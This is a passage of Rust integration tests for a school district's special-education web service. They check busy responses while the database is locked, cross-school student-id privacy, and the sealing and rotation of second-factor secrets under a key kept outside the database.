        let center = log_in(&server, "center@example.org").await;
        server.advance(chrono::Duration::minutes(2));
        let mut other = sqlx::SqliteConnection::connect(&db.url).await.unwrap();
        sqlx::query("BEGIN IMMEDIATE")
            .execute(&mut other)
            .await
            .unwrap();
        let (status, text) = health().await;
        assert_eq!(status, 503, "{text}");
        assert!(text.contains("cannot write"), "{text}");
        // A page that only reads still opens: its session is read without the lock.
        let board = get(&server, Some(&center), "/weeks/2026-W49").await;
        assert_eq!(
            board.status(),
            200,
            "a page that only reads, during the lock"
        );
        // A child's page must log the read, which needs the lock: it answers
        // "busy" after a short wait, while the lock is still held, instead of
        // hanging for the whole busy timeout and failing.
        let child = get(&server, Some(&center), "/students/S001").await;
        assert_eq!(child.status(), 503);
        assert_eq!(child.headers()["retry-after"], "5");
        assert!(child.text().await.unwrap().contains("系统正忙"));
        sqlx::query("ROLLBACK").execute(&mut other).await.unwrap();
        assert_eq!(
            health().await.0,
            200,
            "healthy again once the lock is let go"
        );
        let child = get(&server, Some(&center), "/students/S001").await;
        assert_eq!(
            child.status(),
            200,
            "the page opens once the lock is let go"
        );
        server.stop().await;
    });
}

/// An id registered in another school: reading it is "none that you may see",
/// registering it again is a conflict (ids are the district's) that names no
/// child and no school.
#[test]
fn an_id_of_another_school_is_neither_shown_nor_contradicted() {
    let db = TestDb::sqlite();
    district(&db);
    let settings = settings_for(&db);
    runtime().block_on(async {
        let server = Server::start(&settings).await;
        let token = common::api::token(&db, "chengguan@example.org");
        let read = client()
            .get(format!("{}/api/v1/students/S003", server.base))
            .bearer_auth(&token)
            .send()
            .await
            .unwrap();
        assert_eq!(read.status(), 404);
        assert!(
            read.text()
                .await
                .unwrap()
                .contains("找不到您可以查看的学生 S003")
        );
        let registered = client()
            .post(format!("{}/api/v1/students", server.base))
            .bearer_auth(&token)
            .json(&serde_json::json!({"student_id": "S003", "name": "新生", "school": "城关小学"}))
            .send()
            .await
            .unwrap();
        assert_eq!(registered.status(), 409);
        let text = registered.text().await.unwrap();
        assert!(!text.contains("张子涵") && !text.contains("东山"), "{text}");
        server.stop().await;
    });
}

/// A second factor's secret is kept sealed under a key outside the database (a
/// key file beside it, readable by its owner only): one read of the database
/// gives no code. After a rotation (old key kept as the previous one) the code
/// still works, `user rekey` seals every secret under the new key, and then the
/// old key is no longer needed.
#[test]
fn second_factor_secrets_are_sealed_with_a_key_outside_the_database() {
    use songjiao::service::accounts::{Client, login, login_code};
    use songjiao::service::second_factor;
    let db = TestDb::sqlite();
    district(&db);
    add_user(
        &db,
        &[
            "center@example.org",
            "--name",
            "区特教中心",
            "--role",
            "coordinator",
        ],
    );
    let settings = settings_for(&db);
    let client = Client {
        address: "192.0.2.7".into(),
        user_agent: "test".into(),
    };
    let code = |secret: &str, at: chrono::DateTime<chrono::Utc>| {
        totp_rs::Builder::new()
            .with_secret(totp_rs::Secret::try_from_base32(secret).unwrap())
            .with_account_name("test")
            .build()
            .unwrap()
            .generate(at.timestamp() as u64)
            .to_string()
    };
    let t0 = now();
    let secret = runtime().block_on(async {
        let store = songjiao::store::Store::open(&settings.database, false)
            .await
            .unwrap();
        let signed = login(
            &store,
            &settings,
            t0,
            "center@example.org",
            PASSWORD.into(),
            &client,
        )
        .await
        .unwrap()
        .unwrap();
        let enrolment = second_factor::begin(&store, &settings, &signed.actor, t0)
            .await
            .unwrap();
        second_factor::confirm(
            &store,
            &settings,
            &signed.actor,
            t0,
            &code(&enrolment.secret, t0),
        )
        .await
        .unwrap();
        store.close().await;
        enrolment.secret
    });
    let stored = db.sql_rows("SELECT totp_secret FROM accounts WHERE email = 'center@example.org'");
    assert!(
        stored[0].starts_with("v1:") && !stored[0].contains(&secret),
        "sealed: {stored:?}"
    );
    let key_file = settings.secrets_key_file();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&key_file).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{}", key_file.display());
    }
    let old_key = std::fs::read_to_string(&key_file).unwrap();
    let new_key = "7".repeat(64);
    // A code works under the settings given; each login a minute apart.
    let logs_in = |settings: &songjiao::config::Settings, minutes: i64| {
        let at = t0 + chrono::Duration::minutes(minutes);
        runtime().block_on(async {
            let store = songjiao::store::Store::open(&settings.database, false)
                .await
                .unwrap();
            let waiting = login(
                &store,
                settings,
                at,
                "center@example.org",
                PASSWORD.into(),
                &client,
            )
            .await
            .unwrap()
            .unwrap();
            let done = login_code(
                &store,
                settings,
                at,
                &waiting.session_id,
                &code(&secret, at),
                &client,
            )
            .await;
            store.close().await;
            matches!(done, Ok(Ok(_)))
        })
    };
    let mut rotating = settings.clone();
    rotating.security.secrets_key = serde_json::from_value(new_key.clone().into()).unwrap();
    rotating.security.previous_secrets_key =
        serde_json::from_value(old_key.clone().into()).unwrap();
    assert!(
        logs_in(&rotating, 1),
        "the old key still opens it during a rotation"
    );
    let said = db.run_with_env(
        &["user", "rekey"],
        &[
            ("SONGJIAO_SECURITY_SECRETS_KEY", new_key.as_str()),
            ("SONGJIAO_SECURITY_PREVIOUS_SECRETS_KEY", old_key.trim()),
        ],
    );
    assert!(said.status.success(), "{}", common::stderr(&said));
    assert!(String::from_utf8_lossy(&said.stdout).contains("重新加密 1 个"));
    let mut rotated = settings.clone();
    rotated.security.secrets_key = serde_json::from_value(new_key.into()).unwrap();
    assert!(logs_in(&rotated, 2), "the new key alone, once resealed");
    assert!(
        !logs_in(&settings, 3),
        "the old key alone no longer opens it"
    );
}
